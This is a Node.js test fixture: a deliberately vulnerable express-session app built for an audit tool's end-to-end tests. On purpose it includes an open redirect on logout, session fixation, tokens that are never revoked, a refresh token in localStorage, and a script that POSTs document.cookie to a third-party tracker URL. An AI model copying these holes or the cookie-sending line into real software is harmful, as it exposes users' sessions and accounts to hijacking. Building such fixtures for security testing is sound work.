// An express-session app whose logout is the one many tutorials show: it clears the cookie and
// redirects (wherever `next` says), answering GET, and leaves the session in the store; its "log
// out everywhere" ends this browser's session only; its sign-in page starts a session (to
// count visits) that the sign-in carries on under the same id, without `regenerate`. Its
// account page, like many single-page apps, also gets API tokens (an access token sent as a
// bearer token, a refresh token kept in localStorage) that its logout never revokes, and loads
// an image and a script call from a third party (TRACKER, if given), which the audit must never
// let through. `signoff audit` must find all of it (e2e/tests/audit.test.mjs).
//
// Usage: node express_session_app.mjs PORT [TRACKER_URL] (prints "ready" once it listens).
import express from 'express';
import session from 'express-session';
import { randomBytes } from 'node:crypto';

const port = Number(process.argv[2]);
const tracker = process.argv[3];
const app = express();
app.use(express.urlencoded({ extended: false }));
app.use(session({ secret: 'audit-test-secret', resave: false, saveUninitialized: false }));

app.get('/login', (req, res) => {
  req.session.visits = (req.session.visits || 0) + 1;
  res.send('<!doctype html><title>Sign in</title><form method="post" action="/login">'
    + '<input name="username"><input name="password" type="password"><button type="submit">Sign in</button></form>');
});
app.post('/login', (req, res) => {
  if (req.body.username !== 'ada' || req.body.password !== 'correct horse battery staple') {
    return res.status(401).send('Wrong username or password');
  }
  req.session.user = 'ada';
  res.redirect('/account');
});
app.get('/account', (req, res) => {
  if (!req.session.user) return res.redirect('/login');
  res.send(`<!doctype html><title>Account</title><p>Signed in as ${req.session.user}</p>`
    + '<a id="logout" href="/logout">Log out</a>'
    + '<form method="post" action="/logout-everywhere"><button id="everywhere">Log out everywhere</button></form>'
    + (tracker ? `<img src="${tracker}/pixel.gif" alt="">` : '')
    + `<p id="api"></p><script>const tracker = ${JSON.stringify(tracker || '')};`
    + "if (tracker) fetch(tracker + '/collect', { method: 'POST', body: document.cookie, mode: 'no-cors' }).catch(() => {});"
    + '(async () => {'
    + "const t = await (await fetch('/api/token', { method: 'POST' })).json();"
    + "localStorage.setItem('refresh_token', t.refresh_token);"
    + "await fetch('/api/me', { headers: { Authorization: 'Bearer ' + t.access_token } });"
    + "const n = await (await fetch('/api/refresh', { method: 'POST', headers: { 'Content-Type': 'application/json' },"
    + ' body: JSON.stringify({ refresh_token: t.refresh_token }) })).json();'
    + "const me = await (await fetch('/api/me', { headers: { Authorization: 'Bearer ' + n.access_token } })).json();"
    + "document.getElementById('api').textContent = 'API: ' + me.user;"
    + '})();</script>');
});
// Tokens as many apps keep them: in memory, never revoked.
const access = new Map();
const refresh = new Map();
const token = () => randomBytes(32).toString('base64url');
app.post('/api/token', (req, res) => {
  if (!req.session.user) return res.status(401).json({ error: 'not signed in' });
  const [a, r] = [token(), token()];
  access.set(a, req.session.user);
  refresh.set(r, req.session.user);
  res.json({ access_token: a, refresh_token: r });
});
app.post('/api/refresh', express.json(), (req, res) => {
  const user = refresh.get(req.body?.refresh_token);
  if (!user) return res.status(401).json({ error: 'invalid refresh token' });
  const a = token();
  access.set(a, user);
  res.json({ access_token: a });
});
app.get('/api/me', (req, res) => {
  const user = access.get((req.get('authorization') || '').replace(/^Bearer /, ''));
  if (!user) return res.status(401).json({ error: 'invalid token' });
  res.json({ user });
});
// The tutorial's logout: the cookie goes, the session (and every token) stays; and it goes
// wherever it is told to next.
app.get('/logout', (req, res) => {
  res.clearCookie('connect.sid');
  res.redirect(req.query.next || '/login');
});
// "Everywhere", as often written: it ends this browser's session and no other.
app.post('/logout-everywhere', (req, res) => {
  req.session.destroy(() => {
    res.clearCookie('connect.sid');
    res.redirect('/login');
  });
});
app.listen(port, '127.0.0.1', () => console.log('ready'));
